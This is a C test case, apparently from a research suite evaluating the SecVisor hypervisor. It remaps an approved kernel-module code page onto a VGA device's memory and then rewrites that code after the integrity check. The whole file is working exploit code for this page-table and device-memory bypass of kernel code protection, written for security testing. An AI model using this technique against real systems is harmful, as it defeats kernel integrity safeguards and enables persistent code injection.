// Row 25. An approved page's virtual address is made to name a device's memory, which holds an exact copy of the page: it is right when looked at and can change after.
// Source: derived from Franklin et al. 2008; the device changes bytes after the check.
// Ends: natively succeeded; beneath SecVisor refused, device-fetch.
#include "common/attack.h"
#include <stdio.h>
#include <string.h>

// Memory of a device: the first prefetchable region of the VGA adapter. A device could change it at any time.
static u64 frame_of_device(void)
{
	char line[128];

	for (int slot = 0; slot < 32; slot++) {
		unsigned long long start, end, flags;
		char path[128];

		snprintf(path, sizeof(path), "/sys/bus/pci/devices/0000:00:%02x.0/resource", slot);
		if (!read_file(path, line, sizeof(line)) && sscanf(line, "%llx %llx %llx", &start, &end, &flags) == 3 &&
		    (flags & 0x2200) == 0x2200 && start)
			return start;
	}
	failed("no memory of a device");
}

// Makes the page of `at` map another frame; its 2 MiB mapping is split first if there is one.
static void remap(u64 at, u64 frame, u64 extra)
{
	u64 value, entry;
	unsigned shift;

	entry = entry_of(at, &value, &shift);
	if (shift == 21) {
		u64 table = kernel_page(), flags = value & ~FRAME & ~LARGE;

		for (u64 i = 0; i < 512; i++)
			operate(VULNERABLE_STORE, table + 8 * i, ((value & FRAME & ~0x1fffffull) + (i << 12)) | flags, 8);
		operate(VULNERABLE_STORE, table + 8 * ((at >> 12) & 511), frame | flags | extra, 8);
		poke(entry, physical(table) | 0x63);
	} else if (shift == 12) {
		poke(entry, (value & ~FRAME) | frame | extra);
	} else {
		failed("mapped by %u bits", shift);
	}
	flush(0);
}

ATTACK("remap-device")
{
	insert_module("/modules/target.ko");

	u64 at = symbol("target_answer"), frame = frame_of_device(), window = map_physical(frame, KERNEL_DATA);
	u8 page[PAGE];
	u64 result;

	call(at);
	kread(at & ~(PAGE - 1), page, PAGE);
	for (unsigned i = 0; i < PAGE; i += 8)
		operate(VULNERABLE_STORE, window + i, *(u64 *)(page + i), 8);
	remap(at, frame, 0);
	about_to("run a module's text in a device's memory");
	result = call(at);
	if (result != 42)
		failed("the copy returned %#llx", (unsigned long long)result);
	for (unsigned i = 0; i < CODE_LENGTH; i++)
		operate(VULNERABLE_STORE, window + (at & (PAGE - 1)) + i, CODE[i], 1);
	result = call(at);
	if (result == MARK)
		succeeded("the device changed the module's code, which returned %#x", MARK);
	failed("it returned %#llx", (unsigned long long)result);
}
